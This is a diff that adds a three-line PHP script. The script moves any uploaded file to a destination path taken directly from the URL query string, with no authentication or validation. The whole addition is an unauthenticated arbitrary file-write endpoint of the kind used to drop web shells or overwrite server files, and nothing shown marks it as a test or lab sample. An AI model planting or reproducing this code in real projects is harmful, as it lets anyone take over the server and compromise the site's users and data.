@@ -1,0 +1,3 @@
+<?php
+$moved = move_uploaded_file($_FILES['f']['tmp_name'], $_GET['to']);
+echo $moved ? 'moved' : 'not moved';
